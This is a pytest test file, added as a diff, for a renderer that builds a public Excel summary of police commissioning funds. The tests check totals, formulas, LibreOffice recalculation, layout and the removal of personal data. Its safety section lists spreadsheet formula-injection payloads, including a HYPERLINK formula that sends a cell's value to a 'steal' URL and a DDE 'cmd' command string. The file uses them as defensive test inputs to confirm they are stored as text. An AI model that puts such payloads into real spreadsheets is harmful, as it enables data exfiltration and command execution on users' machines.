@@ -1,0 +1,529 @@
+"""The public Excel summary: seed figures, live totals that carry their values, safety.
+
+Outputs are read back with openpyxl (cell values, formulas, formats) and, for recalculation,
+opened in LibreOffice with a profile that recalculates every formula on load.
+"""
+
+from __future__ import annotations
+
+import io
+import re
+import zipfile
+from collections.abc import Iterator
+from datetime import date, datetime
+from decimal import Decimal
+from pathlib import Path
+from typing import Any
+
+import openpyxl
+import pytest
+
+from pipeline.load import load
+from pipeline.reconcile import Reconciliation, reconcile
+from pipeline.render_xlsx import (
+    LICENCE,
+    LICENCE_URL,
+    remove_contact_details,
+    render_xlsx,
+    sheet_names,
+    summary_name,
+)
+from tests.office import convert
+from tests.workbooks import make_workbook, sample_content, service_row
+
+# Appendix 3 of the seed decision, in its order.
+SEED_VICTIMS = [260_000, 100_000, 20_000, 80_000, 90_000, 82_661, 18_351, 43_600, 100_000,
+                10_600]
+SEED_CSF = [172_900, 74_933, 6_000, 40_000, 4_400, 22_000, 11_000, 5_000, 25_000, 78_000,
+            18_075, 3_000, 3_000, 750]
+
+# Independent of the renderer's own patterns: what a reviewer would search a file for.
+EMAIL = re.compile(r"[\w.+-]+@[\w-]+\.[\w.-]+")
+UK_PHONE = re.compile(r"(?:\+44\s?(?:\(0\)\s?)?|\b0)\d{2,4}[\s-]?\d{3,4}[\s-]?\d{3,4}\b")
+
+
+def render(recon: Reconciliation, folder: Path, name: str = "summary.xlsx",
+           **options: Any) -> Path:
+    path = folder / name
+    render_xlsx(recon, path, **options)
+    return path
+
+
+def recon_of(path: Path) -> Reconciliation:
+    result = load(path)
+    assert result.plan is not None, result.findings
+    return reconcile(result.plan)
+
+
+def money(value: object) -> Decimal:
+    """A cell's number as exact money (openpyxl gives floats)."""
+    assert isinstance(value, (int, float)), value
+    return Decimal(repr(value)).quantize(Decimal("0.01"))
+
+
+def rows(ws: Any) -> list[tuple[Any, ...]]:
+    return list(ws.iter_rows(values_only=True))
+
+
+def table_rows(ws: Any) -> tuple[list[str], list[tuple[Any, ...]], tuple[Any, ...]]:
+    """Header, data rows and total row of the sheet's one table."""
+    [table] = ws.tables.values()
+    grid = [tuple(c.value for c in row) for row in ws[table.ref]]
+    return list(grid[0]), grid[1:-1], grid[-1]
+
+
+def all_cells(wb: Any) -> Iterator[tuple[str, Any]]:
+    for ws in wb.worksheets:
+        for row in ws.iter_rows():
+            for cell in row:
+                if cell.value is not None:
+                    yield f"{ws.title}!{cell.coordinate}", cell
+
+
+@pytest.fixture(scope="module")
+def sample_xlsx(sample_recon: Reconciliation, tmp_path_factory: pytest.TempPathFactory) -> Path:
+    return render(sample_recon, tmp_path_factory.mktemp("xlsx"), summary_name(
+        sample_recon.decision))
+
+
+# -- the seed's figures -----------------------------------------------------------------------
+
+
+def test_file_name_follows_the_financial_year(sample_recon: Reconciliation) -> None:
+    assert summary_name(sample_recon.decision) == "commissioning-summary-2021-22.xlsx"
+
+
+def test_sheets_are_summary_one_per_fund_and_about(sample_xlsx: Path) -> None:
+    wb = openpyxl.load_workbook(sample_xlsx)
+    assert wb.sheetnames == ["Summary", "Victims Fund", "Community Safety Fund", "About"]
+
+
+@pytest.mark.parametrize(("sheet", "budgets", "total"), [
+    ("Victims Fund", SEED_VICTIMS, 805_212),
+    ("Community Safety Fund", SEED_CSF, 464_058),
+])
+def test_every_line_and_total_matches_the_seed(sample_xlsx: Path, sample_recon: Reconciliation,
+                                               sheet: str, budgets: list[int],
+                                               total: int) -> None:
+    ws = openpyxl.load_workbook(sample_xlsx, data_only=True)[sheet]
+    header, lines, total_row = table_rows(ws)
+    assert header == ["Service", "Delivery organisation", "Provision", "Start date", "End date",
+                      "Extension options", "Mechanism", "How commissioned",
+                      "2021/22 budget (£)"]
+    assert [money(line[-1]) for line in lines] == [Decimal(b) for b in budgets]
+    assert sum(budgets) == total
+    assert total_row[0] == "Total"
+    assert money(total_row[-1]) == total
+    expected = [ln for ln in sample_recon.plan.lines if ln.fund == sheet]
+    assert [line[0] for line in lines] == [ln.service for ln in expected]
+    assert [line[1] for line in lines] == [ln.organisation for ln in expected]
+    assert [line[3].date() for line in lines] == [ln.start for ln in expected]
+    assert [line[4].date() for line in lines] == [ln.end for ln in expected]
+
+
+def test_the_sample_has_24_lines(sample_xlsx: Path) -> None:
+    wb = openpyxl.load_workbook(sample_xlsx)
+    assert sum(len(table_rows(wb[s])[1]) for s in ("Victims Fund", "Community Safety Fund")) == 24
+
+
+def test_summary_rows_carry_allocation_sources_committed_and_unallocated(
+        sample_xlsx: Path) -> None:
+    ws = openpyxl.load_workbook(sample_xlsx, data_only=True)["Summary"]
+    header, funds, total = table_rows(ws)
+    assert header == ["Fund", "Allocation (£)", "MoJ Victims' Services Grant (£)",
+                      "Local supplement (£)", "Police main grant (£)", "Committed (£)",
+                      "Unallocated (£)", "% committed"]
+    as_money = [[row[0], *(money(v) for v in row[1:-1])] for row in [*funds, total]]
+    assert as_money == [
+        ["Victims Fund", 1_009_000, 884_000, 125_000, 0, 805_212, 203_788],
+        ["Community Safety Fund", 556_000, 0, 0, 556_000, 464_058, 91_942],
+        ["Total", 1_565_000, 884_000, 125_000, 556_000, 1_269_270, 295_730],
+    ]
+    assert [round(row[-1], 4) for row in [*funds, total]] == [0.798, 0.8346, 0.811]
+
+
+def test_committed_links_to_each_fund_sheets_total(sample_xlsx: Path) -> None:
+    ws = openpyxl.load_workbook(sample_xlsx)["Summary"]
+    assert ws["F4"].value == "='Victims Fund'!I14"
+    assert ws["F5"].value == "='Community Safety Fund'!I18"
+    assert openpyxl.load_workbook(sample_xlsx)["Victims Fund"]["I14"].value == "=SUM(I4:I13)"
+
+
+# -- formulas: cached values, and LibreOffice's recalculation --------------------------------
+
+_RANGE_SUM = re.compile(r"SUM\(([A-Z]+)(\d+):\1(\d+)\)")
+_DIFFERENCE = re.compile(r"([A-Z]+\d+)-([A-Z]+\d+)")
+_RATIO = re.compile(r"IF\(([A-Z]+\d+)=0,0,([A-Z]+\d+)/\1\)")
+_LINK = re.compile(r"'((?:[^']|'')+)'!([A-Z]+\d+)|([A-Za-z]\w*)!([A-Z]+\d+)")
+
+
+def expected_value(wb: Any, sheet: str, formula: str) -> Decimal:
+    """Evaluate one of the summary's formula shapes in Decimal over the cached inputs."""
+    text = formula.removeprefix("=")
+
+    def number(sheet_name: str, ref: str) -> Decimal:
+        return Decimal(repr(wb[sheet_name][ref].value))
+
+    if m := _RANGE_SUM.fullmatch(text):
+        col, first, last = m.group(1), int(m.group(2)), int(m.group(3))
+        return sum((number(sheet, f"{col}{r}") for r in range(first, last + 1)), Decimal(0))
+    if m := _DIFFERENCE.fullmatch(text):
+        return number(sheet, m.group(1)) - number(sheet, m.group(2))
+    if m := _RATIO.fullmatch(text):
+        whole = number(sheet, m.group(1))
+        return number(sheet, m.group(2)) / whole if whole else Decimal(0)
+    if m := _LINK.fullmatch(text):
+        target = m.group(1).replace("''", "'") if m.group(1) else m.group(3)
+        return number(target, m.group(2) or m.group(4))
+    raise AssertionError(f"{sheet}: a formula shape the test does not know: {formula}")
+
+
+def formula_cells(path: Path) -> list[tuple[str, str, str]]:
+    wb = openpyxl.load_workbook(path)
+    return [(ws.title, c.coordinate, str(c.value)) for ws in wb.worksheets
+            for row in ws.iter_rows() for c in row if c.data_type == "f"]
+
+
+def test_every_formula_caches_the_decimal_result(sample_xlsx: Path) -> None:
+    formulas = formula_cells(sample_xlsx)
+    assert len(formulas) == 2 + 2 * 3 + 7  # two fund totals, 3 per fund row, the total row
+    cached = openpyxl.load_workbook(sample_xlsx, data_only=True)
+    for sheet, ref, formula in formulas:
+        value = cached[sheet][ref].value
+        assert value is not None, f"{sheet}!{ref} {formula} has no cached value"
+        expected = expected_value(cached, sheet, formula)
+        if "/" in formula:
+            assert abs(Decimal(repr(value)) - expected) < Decimal("1e-9"), (sheet, ref)
+        else:
+            assert money(value) == expected, f"{sheet}!{ref} {formula}: {value} != {expected}"
+
+
+@pytest.fixture(scope="module")
+def recalculated(sample_xlsx: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
+    return convert(sample_xlsx, "xlsx", tmp_path_factory.mktemp("recalculated"))
+
+
+def test_libreoffice_recalculates_to_the_cached_totals(sample_xlsx: Path,
+                                                       recalculated: Path) -> None:
+    cached = openpyxl.load_workbook(sample_xlsx, data_only=True)
+    fresh = openpyxl.load_workbook(recalculated, data_only=True)
+    assert fresh.sheetnames == cached.sheetnames
+    for sheet, ref, formula in formula_cells(sample_xlsx):
+        before, after = cached[sheet][ref].value, fresh[sheet][ref].value
+        assert isinstance(after, (int, float)), f"{sheet}!{ref} {formula} recalculated to {after}"
+        if "/" in formula:
+            assert after == pytest.approx(before, abs=1e-9), (sheet, ref, formula)
+        else:
+            assert money(after) == money(before), (sheet, ref, formula)
+    assert money(fresh["Victims Fund"]["I14"].value) == 805_212
+    assert money(fresh["Community Safety Fund"]["I18"].value) == 464_058
+    assert money(fresh["Summary"]["F6"].value) == 1_269_270
+
+
+def test_libreoffice_really_recalculates(sample_xlsx: Path, tmp_path: Path) -> None:
+    """A wrong cached total comes back right, so the test above checks the formulas."""
+    tampered = tmp_path / "tampered.xlsx"
+    with zipfile.ZipFile(sample_xlsx) as source, zipfile.ZipFile(tampered, "w") as target:
+        for item in source.infolist():
+            data = source.read(item.filename)
+            if item.filename == "xl/worksheets/sheet2.xml":  # Victims Fund
+                data, count = re.subn(rb"(<f>SUM\(I4:I13\)</f><v>)[^<]*(</v>)", rb"\g<1>1\g<2>",
+                                      data)
+                assert count == 1
+            target.writestr(item, data)
+    assert openpyxl.load_workbook(tampered, data_only=True)["Victims Fund"]["I14"].value == 1
+    fresh = openpyxl.load_workbook(convert(tampered, "xlsx", tmp_path / "out"), data_only=True)
+    assert money(fresh["Victims Fund"]["I14"].value) == 805_212
+
+
+def test_totals_are_plain_sums_never_subtotal(sample_xlsx: Path) -> None:
+    # LibreOffice 7.4 recalculates a table's SUBTOTAL(109,[Column]) total to #NAME?.
+    assert not [f for f in formula_cells(sample_xlsx) if "SUBTOTAL" in f[2].upper()]
+
+
+# -- layout and accessibility -----------------------------------------------------------------
+
+
+def test_sheets_are_set_up_for_reading_and_printing(sample_xlsx: Path) -> None:
+    wb = openpyxl.load_workbook(sample_xlsx)
+    names = [name for ws in wb.worksheets for name in ws.tables]
+    assert names == ["Summary_by_fund", "Services_Victims_Fund",
+                     "Services_Community_Safety_Fund", "About_this_summary"]
+    for ws in wb.worksheets:
+        assert not ws.merged_cells.ranges, ws.title
+        assert ws.page_setup.orientation == "landscape", ws.title
+        # fitToWidth is left out when it is 1, its default.
+        assert ws.page_setup.fitToWidth in (None, 1), ws.title
+        assert ws.page_setup.fitToHeight == 0, ws.title
+        fit = ws.sheet_properties.pageSetUpPr
+        assert fit is not None and fit.fitToPage, ws.title
+        assert ws.print_title_rows == "$3:$3", ws.title
+        assert ws.freeze_panes == "B4", ws.title
+        assert ws["A1"].font.b, ws.title  # a title in A1 says what the sheet holds
+        assert ws.column_dimensions["A"].width > 10
+
+
+def test_money_and_date_formats(sample_xlsx: Path) -> None:
+    wb = openpyxl.load_workbook(sample_xlsx)
+    victims, csf = wb["Victims Fund"], wb["Community Safety Fund"]
+    assert victims["I4"].number_format == "£#,##0;[Red]-£#,##0"
+    assert victims["I14"].number_format == "£#,##0;[Red]-£#,##0"
+    assert wb["Summary"]["B4"].number_format == "£#,##0;[Red]-£#,##0"
+    assert wb["Summary"]["H4"].number_format == "0.0%"
+    assert victims["D4"].number_format == "dd/mm/yyyy"
+    # The seed types the Community Safety Fund's dates as months: shown as months.
+    assert csf["D4"].number_format == "mmmm yyyy"
+    assert csf["E4"].value == datetime(2022, 3, 31)
+
+
+def test_summary_has_a_titled_chart_with_axis_names_and_alt_text(sample_xlsx: Path) -> None:
+    with zipfile.ZipFile(sample_xlsx) as archive:
+        chart = archive.read("xl/charts/chart1.xml").decode()
+        drawing = archive.read("xl/drawings/drawing1.xml").decode()
+    assert '<c:barDir val="bar"/>' in chart and '<c:grouping val="stacked"/>' in chart
+    for text in ("Committed and unallocated by fund, 2021/22", "Pounds (£)", "Fund"):
+        assert f"<a:t>{text}</a:t>" in chart
+    assert "Summary!$F$4:$F$5" in chart and "Summary!$G$4:$G$5" in chart
+    assert "Victims Fund: £805,212 committed, £203,788 unallocated" in drawing
+
+
+def test_about_names_the_decision_source_and_licence(sample_xlsx: Path) -> None:
+    ws = openpyxl.load_workbook(sample_xlsx)["About"]
+    about = {row[0]: row[1] for row in rows(ws)[3:]}
+    assert about["Decision reference"] == "015/2021"
+    assert about["Decision date"] == datetime(2021, 5, 28)
+    assert about["Police area"] == "Lincolnshire"
+    assert about["Financial year"] == "2021/22"
+    assert "Request for Decision 015/2021" in about["Source"]
+    assert about["Generated"] == datetime(2021, 5, 28)  # the decision date: repeatable
+    assert about["Licence"] == LICENCE == "Open Government Licence v3.0"
+    assert about["Licence address"] == LICENCE_URL
+    assert ws["B16"].hyperlink.target == LICENCE_URL
+    assert "pounds" in about["Figures"]
+
+
+def test_a_generated_time_can_be_given(sample_recon: Reconciliation, tmp_path: Path) -> None:
+    stamp = datetime(2021, 6, 1, 9, 30)
+    wb = openpyxl.load_workbook(render(sample_recon, tmp_path, generated=stamp))
+    assert {row[0]: row[1] for row in rows(wb["About"])[3:]}["Generated"] == stamp
+    assert wb.properties.created == stamp
+
+
+# -- determinism ------------------------------------------------------------------------------
+
+
+def test_same_input_gives_identical_bytes(sample_recon: Reconciliation, tmp_path: Path) -> None:
+    first, second = io.BytesIO(), io.BytesIO()
+    render_xlsx(sample_recon, first)
+    render_xlsx(sample_recon, second)
+    assert first.getvalue() == second.getvalue()
+    assert render(sample_recon, tmp_path).read_bytes() == first.getvalue()
+
+
+# -- safety -----------------------------------------------------------------------------------
+
+HOSTILE = [
+    '=HYPERLINK("http://example.com/steal?x="&A1,"Click here")',
+    "+44 1522 ...",
+    "@x",
+    "-2+3",
+    "=cmd|' /C calc'!A0",
+    "+SUM(1,2)",
+]
+
+
+def test_formula_like_text_is_written_as_text(tmp_path: Path) -> None:
+    services = [service_row(service=text, organisation=text, provision=text,
+                            how_commissioned=text, budget=Decimal(1000 + i))
+                for i, text in enumerate(HOSTILE)]
+    sources = [["Victims Fund", "=cmd|' /C calc'!A0", Decimal(1_009_000), "Yes", ""],
+               ["Community Safety Fund", "Police main grant", Decimal(556_000), "No", ""]]
+    recon = recon_of(make_workbook(tmp_path, services=services, sources=sources))
+    path = render(recon, tmp_path)
+    wb = openpyxl.load_workbook(path)
+    _, lines, _ = table_rows(wb["Victims Fund"])
+    for line, text in zip(lines, HOSTILE, strict=True):
+        assert [line[0], line[1], line[2], line[7]] == [text] * 4
+    for col in "ABCH":
+        for row in range(4, 4 + len(HOSTILE)):
+            cell = wb["Victims Fund"][f"{col}{row}"]
+            assert cell.data_type == "s", cell.coordinate
+            assert cell.quotePrefix, cell.coordinate  # stays text if edited in Excel
+    assert wb["Summary"]["C3"].value == "=cmd|' /C calc'!A0 (£)"
+    assert wb["Summary"]["C3"].data_type == "s"
+    with zipfile.ZipFile(path) as archive:
+        sheets = b"".join(archive.read(n) for n in archive.namelist() if "worksheets/" in n)
+    formulas = b"\n".join(re.findall(rb"<f>(.*?)</f>", sheets))
+    assert b"SUM(I4:I9)" in formulas  # the total, and nothing typed by a person
+    for fragment in (b"HYPERLINK", b"cmd", b"@", b"2+3", b"|"):
+        assert fragment not in formulas
+
+
+@pytest.mark.parametrize(("text", "expected"), [
+    ("Call Jo on 01522 947406 or jo.bloggs@lincs.police.uk",
+     "Call Jo on [removed] or [removed]"),
+    ("Tel: +44 (0)1522 947406.", "Tel: [removed]."),
+    ("(01522) 947406 / 07700-900-123", "[removed] / [removed]"),
+    ("Freephone 0800 123 4567", "Freephone [removed]"),
+    ("£1,009,000 committed; £1,151,444.09", "£1,009,000 committed; £1,151,444.09"),
+    ("01/10/2018 to 31/03/2022 (1 x 12 months option to 31/03/2023)",
+     "01/10/2018 to 31/03/2022 (1 x 12 months option to 31/03/2023)"),
+    ("01-10-2018 10:00, decision 015/2021, 2021/22",
+     "01-10-2018 10:00, decision 015/2021, 2021/22"),
+    ("Grant ref 0123456789012 and £0.884m", "Grant ref 0123456789012 and £0.884m"),
+])
+def test_contact_details_are_removed_and_figures_kept(text: str, expected: str) -> None:
+    assert remove_contact_details(text) == expected
+
+
+def test_no_personal_data_anywhere_in_the_file(tmp_path: Path) -> None:
+    def plant(content: Any) -> None:
+        content.decision = [
+            (name, "Joanne Davison, jo.davison@lincs.police.uk, Telephone 01522 947406")
+            if name == "Contact officer" else (name, value)
+            for name, value in content.decision]
+        services = [row for row in content.services if row[0] == "Victims Fund"]
+        services[0][4] = "Outreach; referrals to jo.bloggs@victimsupport.org.uk or 01522 947406"
+        services[1][9] = "Ask +44 (0)7700 900123 about procurement"
+        services[2][7] = "Extension: ring 0800 123 4567"
+
+    recon = recon_of(make_workbook(tmp_path, edit=plant))
+    path = render(recon, tmp_path)
+    wb = openpyxl.load_workbook(path)
+    for where, cell in all_cells(wb):
+        text = str(cell.value)
+        assert not EMAIL.search(text), f"{where}: {text}"
+        assert not UK_PHONE.search(text), f"{where}: {text}"
+        for secret in ("Davison", "JD", "Partnership and Delivery Manager"):
+            assert secret not in text, f"{where}: {text}"
+    assert wb["Victims Fund"]["C4"].value == "Outreach; referrals to [removed] or [removed]"
+    # Nothing in any part of the file either: properties, chart, alt text, shared strings.
+    with zipfile.ZipFile(path) as archive:
+        for name in archive.namelist():
+            xml = archive.read(name).decode("utf-8", "replace")
+            assert not EMAIL.search(xml), name
+            assert not UK_PHONE.search(xml), name
+            assert "Davison" not in xml, name
+
+
+# -- funds: names, pence, several MoJ streams --------------------------------------------------
+
+LONG_A = "Serious Violence Reduction Partnership A"  # 40 characters
+LONG_B = "Serious Violence Reduction Partnership B"  # differs only after the 31st
+ODD = "Safer Streets [Round 4]: Lincoln/Boston?"
+
+
+def funds_workbook(tmp_path: Path, names: list[str], budgets: list[Decimal] | None = None,
+                   ) -> Reconciliation:
+    """One line and one source per fund; allocations of £100,000."""
+    budgets = budgets or [Decimal(1000 * (i + 1)) for i in range(len(names))]
+    funds = [[name, Decimal(100_000), "Section 143 ASBCPA 2014", "A fund."] for name in names]
+    sources = [[name, "Home Office grant", Decimal(100_000), "No", ""] for name in names]
+    services = [service_row(fund=name, service=f"Service {i}", budget=budget)
+                for i, (name, budget) in enumerate(zip(names, budgets, strict=True))]
+    return recon_of(make_workbook(tmp_path, funds=funds, sources=sources, services=services))
+
+
+def test_long_similar_and_odd_fund_names_get_unique_valid_sheets(tmp_path: Path) -> None:
+    assert len(LONG_A) == 40
+    names = [LONG_A, LONG_B, ODD, "summary"]
+    recon = funds_workbook(tmp_path, names)
+    wb = openpyxl.load_workbook(render(recon, tmp_path))
+    fund_sheets = wb.sheetnames[1:-1]
+    assert fund_sheets == ["Serious Violence Reduction Part",
+                           "Serious Violence Reduction (2)",
+                           "Safer Streets Round 4 Lincoln B",
+                           "summary (2)"]
+    assert len({s.casefold() for s in wb.sheetnames}) == len(wb.sheetnames)
+    for sheet, name in zip(fund_sheets, names, strict=True):
+        assert len(sheet) <= 31 and not set(sheet) & set("[]:*?/\\")
+        # The full name is on the sheet and on the Summary, so readers can tell them apart.
+        assert wb[sheet]["A1"].value.startswith(name)
+    _, funds, _ = table_rows(wb["Summary"])
+    assert [row[0] for row in funds] == names
+    # Each fund's committed figure links to its own sheet.
+    committed = [wb["Summary"][f"D{4 + i}"].value for i in range(len(names))]
+    assert committed == [f"='{s}'!I5" for s in fund_sheets]
+    cached = openpyxl.load_workbook(render(recon, tmp_path), data_only=True)["Summary"]
+    assert [money(cached[f"D{4 + i}"].value) for i in range(4)] == [1000, 2000, 3000, 4000]
+
+
+def test_sheet_names_edge_cases() -> None:
+    names = sheet_names(["History", "'Quoted'", "", "a" * 50, "A" * 50, "Children's Fund"])
+    assert names == ["History (2)", "Quoted", "Fund", "a" * 31, "A" * 27 + " (2)",
+                     "Children's Fund"]
+
+
+def test_pence_are_shown_only_where_the_data_has_pence(tmp_path: Path) -> None:
+    names = ["Victims Fund", "Violence Reduction Fund"]
+    budgets = [Decimal("1151444.09"), Decimal(5000)]
+    funds = [[names[0], Decimal("1200000.00"), "DVCVA 2004", "Victims."],
+             [names[1], Decimal(100_000), "s143", "VRU."]]
+    sources = [[names[0], "MoJ Victims' Services Grant", Decimal(1_200_000), "Yes", ""],
+               [names[1], "Home Office grant", Decimal(100_000), "No", ""]]
+    services = [service_row(fund=n, service=f"S{i}", budget=b)
+                for i, (n, b) in enumerate(zip(names, budgets, strict=True))]
+    recon = recon_of(make_workbook(tmp_path, funds=funds, sources=sources, services=services))
+    path = render(recon, tmp_path)
+    wb = openpyxl.load_workbook(path)
+    values = openpyxl.load_workbook(path, data_only=True)
+    victims, vrf = wb["Victims Fund"], wb["Violence Reduction Fund"]
+    assert victims["I4"].number_format == victims["I5"].number_format == "£#,##0.00;[Red]-£#,##0.00"
+    assert money(values["Victims Fund"]["I5"].value) == Decimal("1151444.09")
+    assert vrf["I4"].number_format == "£#,##0;[Red]-£#,##0"  # this fund has no pence
+    assert wb["Summary"]["B4"].number_format == "£#,##0.00;[Red]-£#,##0.00"
+    assert money(values["Summary"]["F4"].value) == Decimal("48555.91")  # unallocated
+
+
+def test_three_funds_with_several_moj_streams(tmp_path: Path) -> None:
+    vf, csf, vrf = "Victims Fund", "Community Safety Fund", "Violence Reduction Fund"
+    funds = [[vf, Decimal(1_109_000), "DVCVA 2004", "Victims."],
+             [csf, Decimal(556_000), "s143", "Community safety."],
+             [vrf, Decimal(880_000), "s143", "Serious violence."]]
+    sources = [
+        [vf, "MoJ Victims' Services Grant (core)", Decimal(700_000), "Yes", "MOJ-1"],
+        [vf, "MoJ Domestic Abuse and Sexual Violence", Decimal(184_000), "Yes", "MOJ-2"],
+        [vf, "MoJ ISVA/IDVA uplift", Decimal(100_000), "Yes", "MOJ-3"],
+        [vf, "Local supplement", Decimal(125_000), "No", ""],
+        [csf, "Police main grant", Decimal(556_000), "No", ""],
+        [vrf, "Home Office Serious Violence Fund", Decimal(800_000), "Yes", ""],
+        [vrf, "Local supplement", Decimal(80_000), "No", ""],
+    ]
+    services = [service_row(fund=vf, service="ISVA", budget=Decimal(500_000)),
+                service_row(fund=csf, service="YOS", purpose="Reducing re-offending",
+                            budget=Decimal(172_900)),
+                service_row(fund=vrf, service="Violence Reduction Unit", budget=Decimal(600_000))]
+    recon = recon_of(make_workbook(tmp_path, funds=funds, sources=sources, services=services))
+    wb = openpyxl.load_workbook(render(recon, tmp_path), data_only=True)
+    header, rows_, total = table_rows(wb["Summary"])
+    sources_header = header[2:-3]
+    assert sources_header == ["MoJ Victims' Services Grant (core) (£)",
+                              "MoJ Domestic Abuse and Sexual Violence (£)",
+                              "MoJ ISVA/IDVA uplift (£)", "Local supplement (£)",
+                              "Police main grant (£)", "Home Office Serious Violence Fund (£)"]
+    for row in [*rows_, total]:
+        # Each fund's (and the total's) sources add up to its allocation.
+        assert sum(money(v) for v in row[2:-3]) == money(row[1]), row[0]
+    assert [money(v) for v in total[1:-1]] == [2_545_000, 700_000, 184_000, 100_000, 205_000,
+                                               556_000, 800_000, 1_272_900, 1_272_100]
+    assert [money(row[5]) for row in rows_] == [125_000, 0, 80_000]  # one shared column
+
+
+def test_a_fund_without_lines_says_so(tmp_path: Path) -> None:
+    content = sample_content()
+    funds = [*content.funds, ["Safer Streets Fund", Decimal(50_000), "s143", "New."]]
+    sources = [*content.sources,
+               ["Safer Streets Fund", "Home Office grant", Decimal(50_000), "No", ""]]
+    recon = recon_of(make_workbook(tmp_path, funds=funds, sources=sources))
+    wb = openpyxl.load_workbook(render(recon, tmp_path), data_only=True)
+    assert wb["Safer Streets Fund"]["A4"].value == "No services are commissioned from this fund."
+    assert not wb["Safer Streets Fund"].tables
+    _, summary, total = table_rows(wb["Summary"])
+    assert [money(v) for v in summary[2][1:-1]] == [50_000, 0, 0, 0, 50_000, 0, 50_000]
+    assert money(total[-2]) == 295_730 + 50_000
+
+
+def test_dates_written_as_dates(sample_xlsx: Path) -> None:
+    ws = openpyxl.load_workbook(sample_xlsx, data_only=True)["Victims Fund"]
+    assert ws["D4"].value == datetime(2018, 10, 1)
+    assert ws["E4"].value.date() == date(2022, 3, 31)
